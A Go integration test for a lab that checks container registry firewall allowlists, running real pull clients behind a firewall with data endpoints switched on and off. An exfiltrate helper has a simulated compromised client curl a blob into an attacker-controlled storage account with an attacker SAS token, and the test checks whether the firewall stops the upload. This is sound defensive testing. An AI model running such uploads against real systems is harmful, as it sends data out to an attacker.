package lab

import (
	"context"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
)

// storiesTimeout bounds TestFirewallStories from set-up to the last story.
const storiesTimeout = 90 * time.Second

// lootContainer is the container of the attacker's account that a
// compromised client uploads into.
const lootContainer = "loot"

// TestFirewallStories tells the three stories of dedicated data endpoints
// with real clients behind a real firewall, generated from `berth registry
// show-endpoints`:
//
//  1. data endpoints on, exact allowlist: crane, regctl and skopeo pull,
//     and an upload into a stranger's storage account is reset by the
//     firewall;
//  2. data endpoints off, the storage wildcard allowed: the pulls work and
//     so does the upload into the stranger's account, the risk that
//     dedicated data endpoints remove;
//  3. data endpoints switched on behind story 2's firewall: the pull fails,
//     and the client's error names the data endpoint to allow.
func TestFirewallStories(t *testing.T) {
	requireLab(t)
	c := &client{crane: tool(t, "crane"), regctl: tool(t, "regctl"), skopeo: tool(t, "skopeo")}
	azurite := findAzurite(t)
	imageDir, img := writeImage(t)
	want, err := img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	cfgName, err := img.ConfigName()
	if err != nil {
		t.Fatal(err)
	}

	// The lab: registry, storage and client hosts on one bridge.
	begin := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), storiesTimeout)
	defer cancel()
	l := newLab(t, ctx)
	regHost := l.addHost("registry", loginAddr, dataAddr)
	stoHost := l.addHost("storage", storageAddr)
	c.host = l.addHost("client", clientAddr)
	c.host.setFirewall(nil) // loopback only, until the allowlist comes
	t.Logf("lab %s up in %s", l.prefix, time.Since(begin).Round(time.Millisecond))

	step := time.Now()
	st := startStorage(t, stoHost, azurite)
	t.Logf("Azurite answers after %s", time.Since(step).Round(time.Millisecond))
	step = time.Now()
	n := startNode(t, regHost, st)
	t.Logf("berth answers after %s", time.Since(step).Round(time.Millisecond))

	// In the registry host: the registry, an image pushed with crane
	// through the login server, a pull-only login for the client.
	step = time.Now()
	admin, pullCfg := filepath.Join(l.dir, "admin"), filepath.Join(l.dir, "puller")
	n.berth(admin, "registry", "create", "-n", registryName, "--sku", "Premium")
	n.berth(admin, "registry", "login", "-n", registryName, "--server-host", loginServer)
	regHost.mustExec([]string{"DOCKER_CONFIG=" + admin, "HOME=" + admin}, c.crane, "push", "--insecure", imageDir, imageRef)
	user, password := n.pullToken(t, admin)
	n.berth(pullCfg, "registry", "login", "-n", registryName, "--server-host", loginServer, "--username", user, "--password", password)
	c.setup(t, filepath.Join(pullCfg, "config.json"), filepath.Join(l.dir, "client"))
	// The attacker's account, prepared from the storage host: a container
	// and a SAS that the compromised client carries.
	loot := st.accountSAS(t, attackerAccount)
	st.createContainer(t, attackerAccount, lootContainer, loot)
	c.loot = loot
	t.Logf("registry created, image %s pushed, client logged in after %s", want, time.Since(step).Round(time.Millisecond))

	// The client's DNS knows every name that was ever published, and the
	// attacker's own, which the attacker controls.
	names := map[string]string{accountHost(attackerAccount): storageAddr}
	apply := func(a allowlist) {
		maps.Copy(names, a.names)
		var lines []string
		for _, name := range slices.Sorted(maps.Keys(names)) {
			lines = append(lines, names[name]+" "+name)
		}
		c.host.setHosts(lines...)
		allow, err := destinations(a.rules, names)
		if err != nil {
			t.Fatalf("%v\n-o firewall:\n%s-o hosts:\n%s", err, a.firewall, a.hosts)
		}
		c.host.setFirewall(allow)
		t.Logf("client firewall allows %v, from -o firewall:\n%s-o hosts:\n%s", allow, a.firewall, a.hosts)
	}

	t.Log("story 1: data endpoints on, the client allows exactly what show-endpoints lists")
	step = time.Now()
	n.berth(admin, "registry", "update", "-n", registryName, "--data-endpoint-enabled", "true")
	waited := n.waitRedirect(t, user, password, cfgName.String(), dataEndpoint)
	t.Logf("the login server redirected to the data endpoint %s after the update", waited.Round(time.Millisecond))
	a := n.allowlist(t, admin)
	if want := []string{loginServer + ":80", dataEndpoint + ":80"}; !slices.Equal(a.rules, want) {
		t.Errorf("show-endpoints -o firewall with data endpoints on lists %q, want %q", a.rules, want)
	}
	apply(a)
	c.pullAll(t, want)
	msg := c.exfiltrate(t, "story1.txt")
	if msg == "" {
		t.Error("story 1: the upload into the attacker's account succeeded through the exact allowlist")
	} else {
		t.Logf("story 1: the upload into the attacker's account failed: %s", msg)
		// curl's status 7 is a refused connection: the firewall's reset.
		// A timeout (28) or an HTTP error (22) would be something else.
		if !strings.Contains(msg, "curl: (7)") {
			t.Errorf("story 1: the upload failed, but not by the firewall's reset: %s", msg)
		}
	}
	if code, _ := st.readBlob(t, attackerAccount, lootContainer, "story1.txt", loot); code != "404" {
		t.Errorf("story 1: reading the attacker's blob answers HTTP %s, want 404", code)
	}
	t.Logf("story 1 took %s", time.Since(step).Round(time.Millisecond))

	t.Log("story 2: data endpoints off, the client allows the storage wildcard")
	step = time.Now()
	n.berth(admin, "registry", "update", "-n", registryName, "--data-endpoint-enabled", "false")
	waited = n.waitRedirect(t, user, password, cfgName.String(), accountHost(registryAccount)+":"+storagePort)
	t.Logf("the login server redirected to shared storage %s after the update", waited.Round(time.Millisecond))
	a = n.allowlist(t, admin)
	if want := []string{loginServer + ":80", "*." + storageDomain + ":" + storagePort}; !slices.Equal(a.rules, want) {
		t.Errorf("show-endpoints -o firewall with data endpoints off lists %q, want %q", a.rules, want)
	}
	apply(a)
	c.pullAll(t, want)
	if msg := c.exfiltrate(t, "story2.txt"); msg != "" {
		t.Errorf("story 2: the upload into the attacker's account failed through the wildcard: %s", msg)
	}
	code, body := st.readBlob(t, attackerAccount, lootContainer, "story2.txt", loot)
	if code != "200" || body != exfilBody("story2.txt") {
		t.Errorf("story 2: the attacker's blob: HTTP %s %q, want 200 %q", code, body, exfilBody("story2.txt"))
	} else {
		t.Logf("story 2: the attacker's account holds %q, uploaded by the client", body)
	}
	t.Logf("story 2 took %s", time.Since(step).Round(time.Millisecond))

	t.Log("story 3: data endpoints switched on behind story 2's firewall")
	step = time.Now()
	n.berth(admin, "registry", "update", "-n", registryName, "--data-endpoint-enabled", "true")
	waited = n.waitRedirect(t, user, password, cfgName.String(), dataEndpoint)
	t.Logf("the login server redirected to the data endpoint %s after the update", waited.Round(time.Millisecond))
	for _, tool := range clientTools {
		msg, ok := c.pull(t, tool, want)
		if ok {
			t.Errorf("story 3: %s pulled through a firewall that does not allow the data endpoint", tool)
			continue
		}
		t.Logf("story 3: %s failed: %s", tool, lastLine(msg))
		if !strings.Contains(msg, dataEndpoint) {
			t.Errorf("story 3: the error of %s does not name the data endpoint %s", tool, dataEndpoint)
		}
	}
	t.Logf("story 3 took %s; the lab ran %s", time.Since(step).Round(time.Millisecond), time.Since(begin).Round(time.Millisecond))
}

// clientTools are the pulling clients of the stories.
var clientTools = []string{"crane", "regctl", "skopeo"}

// client is the client host with its tools and its docker configuration.
type client struct {
	host                  *host
	crane, regctl, skopeo string
	cfg                   string   // docker configuration directory
	loot                  string   // SAS of the attacker's account
	env                   []string // points every tool at cfg
}

// setup copies the docker configuration that berth registry login wrote
// into the client's configuration directory dir, and tells regctl that
// the login server speaks plain HTTP.
func (c *client) setup(t *testing.T, dockerConfig, dir string) {
	t.Helper()
	b, err := os.ReadFile(dockerConfig)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "config.json"), b, 0o600); err != nil {
		t.Fatal(err)
	}
	c.cfg = dir
	c.env = []string{"DOCKER_CONFIG=" + dir, "HOME=" + dir, "REGCTL_CONFIG=" + filepath.Join(dir, "regctl.json")}
	c.host.mustExec(c.env, c.regctl, "registry", "set", "--skip-check", "--tls", "disabled", loginServer)
}

// pull pulls imageRef with tool into a new OCI layout. It returns the
// error output and false when the pull fails; when it succeeds, it checks
// the pulled image against want.
func (c *client) pull(t *testing.T, tool string, want v1.Hash) (string, bool) {
	t.Helper()
	dir := pullDir(t, tool)
	var bin string
	var args []string
	switch tool {
	case "crane":
		bin, args = c.crane, []string{"pull", "--insecure", "--format", "oci", imageRef, dir}
	case "regctl":
		bin, args = c.regctl, []string{"image", "copy", imageRef, "ocidir://" + dir + ":v1"}
	case "skopeo":
		bin, args = c.skopeo, []string{"copy", "--authfile", filepath.Join(c.cfg, "config.json"),
			"--src-tls-verify=false", "docker://" + imageRef, "oci:" + dir + ":v1"}
	default:
		t.Fatalf("unknown client %s", tool)
	}
	if _, _, err := c.host.exec(c.env, bin, args...); err != nil {
		return strings.TrimSpace(stderrOf(err)), false
	}
	checkPulled(t, tool, dir, want)
	return "", true
}

// pullAll pulls with every tool and fails the test for each that fails.
func (c *client) pullAll(t *testing.T, want v1.Hash) {
	t.Helper()
	for _, tool := range clientTools {
		start := time.Now()
		if msg, ok := c.pull(t, tool, want); !ok {
			t.Errorf("%s pull failed: %s", tool, msg)
			continue
		}
		t.Logf("%s pulled %s in %s", tool, want, time.Since(start).Round(time.Millisecond))
	}
}

// exfilBody is what the compromised client uploads as blob.
func exfilBody(blob string) string { return "data of the client host, " + blob }

// exfiltrate uploads a blob into the attacker's account from the client
// host, with the attacker's SAS, and returns curl's error output, or ""
// when the upload succeeded.
func (c *client) exfiltrate(t *testing.T, blob string) string {
	t.Helper()
	_, _, err := c.host.exec(nil, "curl", putBlobArgs(attackerAccount, lootContainer, blob, c.loot, exfilBody(blob))...)
	if err != nil {
		return strings.TrimSpace(stderrOf(err))
	}
	return ""
}

// lastLine returns the last non-empty line of a tool's error output: its
// final error, after any warnings logged on the way.
func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}
